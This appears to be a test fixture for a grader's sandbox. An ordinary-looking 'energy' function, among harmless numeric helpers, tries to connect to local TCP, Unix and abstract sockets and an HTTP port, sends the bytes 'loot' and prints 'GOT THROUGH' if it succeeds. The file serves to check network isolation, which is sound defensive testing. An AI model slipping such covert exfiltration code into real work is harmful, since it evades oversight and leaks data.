"""Sends its loot to a TCP port, a Unix socket and an abstract socket that listen on the grader's machine.

expect: energy=failed
"""

import numpy as np
import sympy
import torch


def weights(z):
    e = torch.exp(z - z.max())
    return e / e.sum()

def slope(x, a):
    return a * (1 - sympy.tanh(a * x) ** 2)

def ranks(items):
    order = sorted(range(len(items)), key=items.__getitem__)
    return [order.index(i) for i in range(len(items))]


def energy(x):
    import socket
    import urllib.request

    for family, address in [(socket.AF_INET, ("127.0.0.1", int("@PORT@"))), (socket.AF_UNIX, "@DEN@/hostile.sock"), (socket.AF_UNIX, "\0hostile-@PORT@")]:
        try:
            with socket.socket(family) as sock:
                sock.settimeout(0.2)
                sock.connect(address)
                sock.send(b"loot")
                print("GOT THROUGH: connected to", address)
        except OSError:
            pass
    try:
        urllib.request.urlopen("http://127.0.0.1:@PORT@/", timeout=0.2)
    except OSError:
        pass
    return 0.0
